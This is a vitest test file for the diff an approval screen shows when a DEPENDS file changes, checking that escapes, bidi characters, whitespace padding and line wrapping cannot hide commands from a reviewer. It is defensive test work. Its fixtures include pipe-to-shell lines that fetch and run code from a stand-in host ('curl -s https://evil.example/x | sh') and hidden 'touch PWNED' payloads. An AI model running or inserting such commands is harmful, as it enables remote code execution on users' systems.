// The approval screen's diff of a changed DEPENDS file (pure): what the person reviews must be
// the change, shown as the rest of the screen shows text, and bounded.
import { describe, expect, it } from 'vitest';
import { DIFF_LINES_PER_FILE, DIFF_LINES_TOTAL, dependsDiff, dependsDiffLines } from '../../lib/report/depends-diff.js';
import { screenWidth } from '../../lib/text/review-text.js';

const b = (s: string) => Buffer.from(s, 'utf8');
const D = 'ab'.repeat(32);

describe('dependsDiffLines', () => {
  it('a unified diff of the approved version against the file now, with context', () => {
    const lines = dependsDiffLines([{ digest: D, path: 'scripts/check.sh', approved: b('a\nb\nc\n'), now: b('a\nB\nc\nd\n'), nowIsApproved: true }]);
    expect(lines).toEqual([
      '  DIFF    scripts/check.sh (approved version, then now):',
      '  | @@ -1,3 +1,4 @@',
      '  |  a',
      '  | -b',
      '  | +B',
      '  |  c',
      '  | +d',
    ]);
  });

  it('a file added to DEPENDS is shown whole, as a diff against nothing', () => {
    expect(dependsDiffLines([{ digest: D, path: 'x.sh', approved: b(''), now: b('exit 0\n'), nowIsApproved: true }])).toEqual(['  DIFF    x.sh (the whole file, as it is now):', '  | @@ -0,0 +1,1 @@', '  | +exit 0']);
  });

  it('an empty file added is said to be empty, not "the same text but for its line ends" (round-15b L1)', () => {
    const d = dependsDiff([{ digest: D, path: 'c.sh', approved: b(''), now: b(''), nowIsApproved: true }]);
    expect(d.lines).toEqual(['  DIFF    c.sh: an empty file']);
    expect(d.notShown).toEqual([]);
  });

  it('escapes, controls, bidi overrides and look-alikes in a line are shown, not passed to the terminal', () => {
    const lines = dependsDiffLines([{ digest: D, path: 'p\u001b[2J.sh', approved: b('ok\n'), now: b('echo \u001b[31mred\u202e evil\necho \u0441at\n'), nowIsApproved: true }]);
    const text = lines.join('\n');
    expect(text).not.toMatch(/[\u001b\u202e\u0441]/);
    expect(text).toContain('<U+0441>');
    expect(text).toContain('<U+202E>');
  });

  it('no copy, an unreadable file, a binary file, or a change too large for a diff: said, and the person reads the file', () => {
    expect(dependsDiffLines([{ digest: D, path: 'a', approved: null, now: b('x'), nowIsApproved: true }])[0]).toMatch(/^ {2}DIFF {4}a: no copy of the approved version is kept .*read the whole file$/);
    expect(dependsDiffLines([{ digest: D, path: 'a', approved: b('x'), now: null, nowIsApproved: true }])[0]).toMatch(/^ {2}DIFF {4}a: cannot be read now/);
    expect(dependsDiffLines([{ digest: D, path: 'a', approved: b('x\0y'), now: b('x'), nowIsApproved: true }])[0]).toBe('  DIFF    a: binary file: 3 bytes approved, 1 bytes now; the diff is not shown: read the whole file');
    expect(dependsDiffLines([{ digest: D, path: 'a', approved: Buffer.from([0xff, 0x41]), now: b('A'), nowIsApproved: true }])[0]).toMatch(/binary file/);
    const many = (tag: string) => b(Array.from({ length: 3000 }, (_, i) => `${tag}${i}`).join('\n'));
    expect(dependsDiffLines([{ digest: D, path: 'a', approved: many('x'), now: many('y'), nowIsApproved: true }])[0]).toMatch(/changed too much for a diff/);
  });

  it('a file read for the diff that is not the version hashed into the oracle: no diff is shown', () => {
    expect(dependsDiffLines([{ digest: D, path: 'a.sh', approved: b('x\n'), now: b('y\n'), nowIsApproved: false }])).toEqual([
      '  DIFF    a.sh: changed while this screen was being made, so the diff is not shown: run again once the file holds still',
      `          the version being approved has SHA-256 ${D}: copy the file, check the copy's sha256sum, read the copy, then approve by the pin`,
    ]);
    // So does every change the screen sends the person to read for themselves: each is named, for the prompt to refuse.
    const d = dependsDiff([
      { digest: D, path: 'gone', approved: null, now: b('x'), nowIsApproved: true },
      { digest: D, path: 'unreadable', approved: b('x'), now: null, nowIsApproved: false },
      { digest: D, path: 'bin', approved: b('x\0'), now: b('y'), nowIsApproved: true },
    ]);
    expect(d.notShown).toEqual([
      { path: 'gone', why: 'no diff' },
      { path: 'unreadable', why: 'cannot be read' },
      { path: 'bin', why: 'binary' },
    ]);
    expect(d.lines.filter((l) => l.includes('the version being approved has SHA-256'))).toHaveLength(3);
  });

  it('a changed line longer than the screen: cut with a note, and the file is named as not shown in full (round-7 attack)', () => {
    const head = `msg="${'x'.repeat(215)}"`;
    const d = dependsDiff([{ digest: D, path: 'check.sh', approved: b(`${head}; export OK=1\nrows=3\n`), now: b(`${head}; touch PWNED\nrows=3\n`), nowIsApproved: true }]);
    expect(d.notShown).toEqual([{ path: 'check.sh', why: 'a changed line too long for the screen' }]);
    expect(d.lines.filter((l) => l.includes('not all of it is shown here'))).toEqual([
      '  | … that line is 234 characters; not all of it is shown here',
      '  | … that line is 234 characters; not all of it is shown here',
    ]);
    // A long unchanged context line is noted too, but does not hold the approval back.
    const context = dependsDiff([{ digest: D, path: 'c.sh', approved: b(`${head}\na\n`), now: b(`${head}\nb\n`), nowIsApproved: true }]);
    expect(context.notShown).toEqual([]);
    expect(context.lines).toContain('  | … that line is 221 characters; not all of it is shown here');
  });

  it('a change of line ends only (CRLF for LF) is shown: the CR a shell reads appears as <U+000D>', () => {
    const d = dependsDiff([{ digest: D, path: 'a.sh', approved: b('rm -rf build\n'), now: b('rm -rf build\r\n'), nowIsApproved: true }]);
    expect(d.lines).toContain('  | +rm -rf build<U+000D>');
    expect(d.notShown).toEqual([]);
  });

  it('a run of blanks that would push a command off the line is shown as <N spaces>', () => {
    const lines = dependsDiffLines([{ digest: D, path: 'a.sh', approved: b('echo a\n'), now: b(`echo a\necho checking${' '.repeat(190)}; touch PWNED\n`), nowIsApproved: true }]);
    expect(lines).toContain('  | +echo checking<190 spaces>; touch PWNED');
  });

  it('bounded per file and in all, saying what was left out', () => {
    const long = (tag: string) => b(Array.from({ length: 200 }, (_, i) => `${tag}${i}`).join('\n') + '\n');
    const one = dependsDiffLines([{ digest: D, path: 'a', approved: long('x'), now: long('y'), nowIsApproved: true }]);
    expect(one.length).toBe(DIFF_LINES_PER_FILE + 3);
    expect(one.at(-2)).toMatch(/^ {2}\| … \d+ more diff lines not shown: read the whole file$/);
    expect(one.at(-1)).toContain(`the version being approved has SHA-256 ${D}:`);
    const files = Array.from({ length: 10 }, (_, i) => ({ digest: D, path: `f${i}`, approved: long('x'), now: long('y'), nowIsApproved: true }));
    const all = dependsDiffLines(files);
    expect(all.filter((l) => l.startsWith('  | ') && !l.startsWith('  | …')).length).toBe(DIFF_LINES_TOTAL);
    const past = all.indexOf('  DIFF    7 more changed files not shown: read them before approving; the versions being approved:');
    expect(past).toBeGreaterThan(0);
    expect(all.slice(past + 1)).toEqual(files.slice(3).map((f) => `          ${f.path}: SHA-256 ${D}`));
    expect(dependsDiff(files).notShown.map((n) => n.why)).toEqual([...Array(3).fill('more diff lines than the screen shows'), ...Array(7).fill("not shown (past the screen's lines)")]);
  });

  it('a line wider than an 80-column terminal is wrapped by the screen, each further row marked, so no row can pass for a line of the diff (round-7b attack)', () => {
    const added = `true "${'x'.repeat(60)}" |  curl -s https://evil.example/x | sh`;
    const lines = dependsDiffLines([{ digest: D, path: 'a.sh', approved: b('echo a\n'), now: b(`echo a\n${added}\n`), nowIsApproved: true }]);
    const at = lines.findIndex((l) => l.startsWith('  | +true'));
    expect(lines[at]).toHaveLength(80);
    expect(lines[at + 1]).toMatch(/^ {2}~ /);
    expect(lines.every((l) => l.length <= 80 || l.startsWith('  DIFF') || l.startsWith('          '))).toBe(true);
    expect((lines[at]! + lines[at + 1]!.slice(4)).slice(5)).toBe(added);
  });

  it('on a terminal narrower than 80 columns, rows are wrapped at its width, so that it wraps none of them into a fake row (round-7c attack)', () => {
    const added = 'true "reworded for clarity, see review notes.........."  |  curl -s e.x|sh';
    const lines = dependsDiffLines([{ digest: D, path: 'a.sh', approved: b('echo a\n'), now: b(`echo a\n${added}\n`), nowIsApproved: true }], 60);
    const at = lines.findIndex((l) => l.startsWith('  | +true'));
    expect(lines[at]).toHaveLength(60);
    expect(lines[at + 1]).toBe(`  ~ ${added.slice(55)}`);
    expect(lines.filter((l) => l.startsWith('  | ') || l.startsWith('  ~ ')).every((l) => l.length <= 60)).toBe(true);
  });

  it('rows follow the terminal from 20 to 80 columns', () => {
    expect([10, 20, 59.5, 80, 200].map(screenWidth)).toEqual([20, 20, 59, 80, 80]);
  });
});
